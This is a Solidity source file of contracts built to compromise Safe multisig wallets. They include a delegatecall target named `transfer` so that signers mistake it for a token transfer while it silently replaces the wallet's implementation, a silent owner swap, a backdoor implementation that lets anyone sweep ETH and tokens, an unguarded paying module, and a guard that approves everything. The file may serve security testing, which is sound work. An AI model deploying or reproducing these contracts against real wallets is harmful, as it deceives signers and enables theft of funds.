// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// Called by delegatecall from a Safe: its first word of storage, the implementation, becomes `to`. No event. The name
/// is that of an ordinary token transfer, which is what the signers then read.
contract SlotWriter {
    address private implementation;

    function transfer(address to, uint256) external {
        implementation = to;
    }
}

/// Called by delegatecall from a Safe: one owner is exchanged in storage without an event.
contract OwnerWriter {
    address private implementation;
    mapping(address => address) private modules;
    mapping(address => address) private owners;

    function exchange(address before, address prior, address next) external {
        owners[next] = owners[prior];
        owners[before] = next;
        owners[prior] = address(0);
    }
}

/// An implementation that obeys anybody.
contract Backdoor {
    address private implementation;

    receive() external payable {}

    function sweepETH(address payable to) external {
        (bool done, ) = to.call{value: address(this).balance}("");
        require(done, "sweep");
    }

    function sweepERC20(address token, address to, uint256 amount) external {
        (bool done, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, amount));
        require(done, "sweep");
    }
}

interface Executes {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation)
        external returns (bool);
}

/// A module that pays from the Safe that enabled it.
contract PayingModule {
    function pay(Executes safe, address to, uint256 amount) external {
        require(safe.execTransactionFromModule(to, amount, "", 0), "pay");
    }
}

/// A guard that agrees to everything.
contract IdleGuard {
    function checkTransaction(
        address, uint256, bytes memory, uint8, uint256, uint256, uint256, address, address payable, bytes memory, address
    ) external {}

    function checkAfterExecution(bytes32, bool) external {}

    function supportsInterface(bytes4) external pure returns (bool) {
        return true;
    }
}
